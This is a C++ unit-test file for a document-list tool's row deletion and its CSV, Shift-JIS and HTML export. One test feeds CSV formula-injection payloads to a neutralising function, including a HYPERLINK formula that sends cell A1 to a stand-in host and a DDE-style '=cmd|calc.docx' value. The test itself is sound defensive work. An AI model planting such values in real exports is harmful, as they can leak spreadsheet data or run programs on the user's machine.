#include "commands/core/GridRows.h"
#include "commands/core/ListHistory.h"

#include <gtest/gtest.h>

#include <algorithm>

namespace commands {
namespace {

using catalogue::DocumentList;

// A list of `rows` rows whose first `filled` rows hold "dN" as file name
// and "tN" as title (N from 1).
DocumentList List(int rows, int filled) {
  DocumentList list(rows);
  for (int row = 0; row < filled; ++row) {
    list.SetField(row, 0, "d" + std::to_string(row + 1));
    list.SetField(row, 1, "t" + std::to_string(row + 1));
  }
  return list;
}

std::string Names(const DocumentList& list) {
  std::string names;
  for (int row = 0; row < list.RowCount(); ++row) {
    names += (list.HoldsDocument(row) ? list.Field(row, 0) : "-") + " ";
  }
  return names;
}

TEST(DeleteRows, RemovesTheRowsAndClosesTheGaps) {
  DocumentList list = List(6, 5);
  DeleteRowsChange(list, {1});
  EXPECT_EQ(Names(list), "d1 d3 d4 d5 - ");
  EXPECT_EQ(list.Field(1, 1), "t3");  // every field moved
  DeleteRowsChange(list, {3, 0, 2});
  EXPECT_EQ(Names(list), "d3 - ");
}

TEST(DeleteRows, TheOnlyRowIsEmptiedNotRemoved) {
  DocumentList list = List(1, 1);
  DeleteRowsChange(list, {0});
  EXPECT_EQ(list.RowCount(), 1);
  EXPECT_EQ(list.Field(0, 0), "");
  EXPECT_EQ(list.Field(0, 1), "");
  // Every row at once leaves one emptied row.
  DocumentList all = List(4, 4);
  DeleteRowsChange(all, {3, 2, 1, 0});
  EXPECT_EQ(all.RowCount(), 1);
  EXPECT_EQ(Names(all), "- ");
}

TEST(DeleteRows, BlankRowsGoOneAtATimeAndOutOfRangeDoesNothing) {
  DocumentList list = List(49, 0);
  for (int i = 0; i < 60; ++i) {
    DeleteRowsChange(list, {0});
  }
  EXPECT_EQ(list.RowCount(), 1);
  DocumentList other = List(4, 4);
  DeleteRowsChange(other, {6, 8, -1});
  EXPECT_EQ(Names(other), "d1 d2 d3 d4 ");
}

TEST(ListOutput, RowsWithoutAFileNameArePassedOverNotTheEnd) {
  // An unreadable document between two readable ones, and an empty first row.
  DocumentList list = List(6, 4);
  list.SetField(2, 0, "");
  EXPECT_EQ(list.DocumentRows(), (std::vector<int>{0, 1, 3}));
  EXPECT_EQ(list.ListLines(';'),
            (std::vector<std::string>{"d1;t1;;;;;;;;;;;", "d2;t2;;;;;;;;;;;", "d4;t4;;;;;;;;;;;"}));
  EXPECT_EQ(list.ListLines(',')[2], "d4;t4;;;;;;;;;;,");
  EXPECT_EQ(CsvText(list), "d1,t1,,,,,,,,,,,\r\nd2,t2,,,,,,,,,,,\r\nd4,t4,,,,,,,,,,,\r\n");
  list.SetField(0, 0, "");
  list.SetField(5, 0, "d6");
  EXPECT_EQ(list.DocumentRows(), (std::vector<int>{1, 3, 5}));
  EXPECT_EQ(CsvText(DocumentList(49)), "");
}

TEST(ListOutput, ListLinesCannotBeSplitAndCsvFieldsAreQuoted) {
  DocumentList list = List(2, 1);
  list.SetField(0, 1, "a;b,c表");
  list.SetField(0, 4, "say \"hi\"\tnow");
  // In the list file a typed ";" or tab can neither shift nor split a field.
  EXPECT_EQ(list.ListLines(';')[0], "d1;a；b,c表;;;say \"hi\" now;;;;;;;;");
  // In CSV a value with a comma or a quote is quoted, its quotes doubled;
  // other values, ";" included, stay byte for byte.
  EXPECT_EQ(CsvText(list), "d1,\"a;b,c表\",,,\"say \"\"hi\"\"\tnow\",,,,,,,,\r\n");
  EXPECT_EQ(CsvField("plain ;\x81\x47"), "plain ;\x81\x47");
  // The Shift-JIS CSV: code page 932 bytes (表 95 5C), a character it lacks
  // "?", and the values that lost one counted.
  list.SetField(1, 0, "d2");
  list.SetField(1, 1, "José 김 ¥");
  ShiftJisCsv sjis = CsvShiftJisText(list);
  EXPECT_EQ(sjis.bytes,
            "d1,\"a;b,c\x95\x5C\",,,\"say \"\"hi\"\"\tnow\",,,,,,,,\r\n"
            "d2,Jos? ? \\,,,,,,,,,,,\r\n");
  EXPECT_EQ(sjis.valuesChanged, 1u);
  EXPECT_EQ(CsvShiftJisText(List(3, 3)).valuesChanged, 0u);
  EXPECT_EQ(CsvField("two\r\nlines"), "\"two\r\nlines\"");
  EXPECT_EQ(CsvField("\""), "\"\"\"\"");
}

// A document's properties are written by whoever wrote the document: no
// value reaches a spreadsheet as a formula, in any CSV or on the
// clipboard; plain numbers stay numbers.
TEST(ListOutput, NoValueGoesOutAsAFormula) {
  for (const char* formula :
       {"=HYPERLINK(\"http://x/?\"&A1,\"a\")", "=cmd|calc.docx", "+1+1", "-2+3", "@SUM(A1)",
        "\tTab", "\rReturn", "-", "+", "=", "-.", "--5"}) {
    EXPECT_EQ(InertCsvValue(formula), std::string("'") + formula) << formula;
  }
  for (const char* kept : {"-5", "+81", "-3.5", ".5", "12", "1+1", "a=b", "", "'=x", "表=1"}) {
    EXPECT_EQ(InertCsvValue(kept), kept) << kept;
  }
  DocumentList list = List(1, 1);
  list.SetField(0, 0, "=cmd|calc.docx");
  list.SetField(0, 1, "=HYPERLINK(\"http://x\",\"y\")");
  list.SetField(0, 4, "-5");
  list.SetField(0, 5, "@x");
  EXPECT_EQ(CsvText(list),
            "'=cmd|calc.docx,\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",,,-5,'@x,,,,,,,\r\n");
  EXPECT_EQ(CsvUtf8Text(list).substr(CsvUtf8Text(list).find("\r\n") + 2),
            "'=cmd|calc.docx,\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",,,-5,'@x,,,,,\r\n");
  EXPECT_EQ(CsvShiftJisText(list).bytes.substr(0, 16), "'=cmd|calc.docx,");
  // The list itself keeps the value as read.
  EXPECT_EQ(list.ListLines(';')[0].substr(0, 15), "=cmd|calc.docx;");
  EXPECT_NE(HtmlTable(list).find("mso-number-format:\"\\@\""), std::string::npos);
}

TEST(ListOutput, TheHtmlTableHasTheHeadingsAndEscapedCells) {
  DocumentList list = List(3, 2);
  list.SetField(1, 1, "<b>a & \"b\"</b>");
  std::string html = HtmlTable(list);
  EXPECT_NE(html.find("<meta charset=\"utf-8\">"), std::string::npos);
  EXPECT_NE(html.find("<th>ファイル名</th>"), std::string::npos);
  EXPECT_NE(html.find("<tr><td sdnum=\"1041;0;@\">d2</td><td sdnum=\"1041;0;@\">&lt;b&gt;a &amp; "
                      "&quot;b&quot;&lt;/b&gt;</td>"),
            std::string::npos)
      << html;
  EXPECT_EQ(std::count(html.begin(), html.end(), '\n'), 5);  // table, headings, two rows, end
}

TEST(ListOutput, NRowsGiveNLinesEndingInTwoCommas) {
  DocumentList list = List(59, 55);
  std::string text = CsvText(list);
  std::size_t lines = 0;
  for (std::size_t at = text.find(",,\r\n"); at != std::string::npos;
       at = text.find(",,\r\n", at + 1)) {
    ++lines;
  }
  EXPECT_EQ(lines, 55u);
  EXPECT_EQ(std::count(text.begin(), text.end(), '\n'), 55);
}

TEST(ListOutput, Utf8CsvHasAByteOrderMarkHeadingsAndElevenQuotedFields) {
  DocumentList list = List(4, 3);
  list.SetField(0, 1, "表, \"A\"");
  list.SetField(0, 10, "2026/01/02");
  list.SetField(1, 0, "");  // an unreadable document: passed over
  EXPECT_EQ(CsvUtf8Text(list),
            "\xEF\xBB\xBF"
            "ファイル名,タイトル,最終更新日時,サブタイトル,作成者,キーワード,コメント,更新者,"
            "改訂番号,印刷日時,作成日時\r\n"
            "d1,\"\xE8\xA1\xA8, \"\"A\"\"\",,,,,,,,,2026/01/02\r\n"
            "d3,t3,,,,,,,,,\r\n");
  // No documents: the headings alone.
  std::string empty = CsvUtf8Text(List(3, 0));
  EXPECT_EQ(std::count(empty.begin(), empty.end(), '\n'), 1);
}

}  // namespace
}  // namespace commands
